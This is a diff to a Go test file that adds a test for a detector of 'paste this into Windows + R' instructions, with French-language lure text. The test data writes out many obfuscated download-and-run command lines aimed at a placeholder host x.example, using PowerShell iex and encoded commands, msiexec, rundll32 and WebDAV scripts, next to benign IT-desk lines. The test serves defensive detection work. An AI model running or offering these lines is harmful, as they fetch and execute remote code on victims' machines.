@@ -166,3 +166,44 @@ func TestShownVariable(t *testing.T) {
 		t.Error("percent signs are no variable")
 	}
 }
+
+// A shown line that starts a Windows runner on a remote source is a
+// download-and-run line whatever its idiom (RemoteCommand: SigmaHQ's
+// RunMRU rules); an IT desk's printer, package or path line is not.
+func TestShownRemoteLine(t *testing.T) {
+	const steps = "Copiez la commande ci-dessous, appuyez sur Windows + R, collez-la et appuyez sur Entrée :\n"
+	for _, line := range []string{
+		`powershell -w h -c "irm https://x.example/a|iex"`,
+		`powershell -w h -c "Invoke-WebRequest https://x.example/a.exe -OutFile $env:TEMP\a.exe; Start-Process $env:TEMP\a.exe"`,
+		`cmd /c start /min powershell -w h -c "iwr x.example/a -o a.ps1; .\a.ps1"`,
+		`conhost --headless powershell -c "iwr x.example/a"`,
+		`rundll32 \\webdav.example@SSL\dav\x.dll,Start`,
+		`msiexec /i http://x.example/a.msi /qn`,
+		`wscript \\x.example@SSL\DavWWWRoot\a.vbs`,
+		`cmd /c curl.exe -o %temp%\x.exe https://x.example/x.exe & start %temp%\x.exe`,
+		`powershell -e JABjAGwAaQBlAG4AdAA=`,
+		`powershell -ec SQBFAFgA`,
+		`powershell -EncodedCommand SQBFAFgA`,
+		`p^o^w^e^r^s^h^e^l^l -w h -c "i^w^r x.example|i^e^x"`,
+		"powershell -c \"i`e`x (i`w`r x.example)\"",
+		`%comspec% /c start powershell -c iwr x.example`,
+	} {
+		if Instruction(steps+line) == "" {
+			t.Errorf("a remote line shown to paste: not found in %q", line)
+		}
+		if TypedCommand("Appuyez sur Windows + R, tapez "+line+" puis Entrée.") == "" {
+			t.Errorf("a remote line to type: not found in %q", line)
+		}
+	}
+	for _, line := range []string{
+		`winget install -e --id Microsoft.PowerShell`,
+		`rundll32 printui.dll,PrintUIEntry /in /n \\srv-impression\RDC-couleur`,
+		`msiexec /i \\srv-deploiement\agents\agent-antivirus.msi /qn`,
+		`control printers`,
+		`%temp%`,
+	} {
+		if got := Instruction(steps + line); got != "" {
+			t.Errorf("an IT desk's line shown to paste: %q in %q", got, line)
+		}
+	}
+}
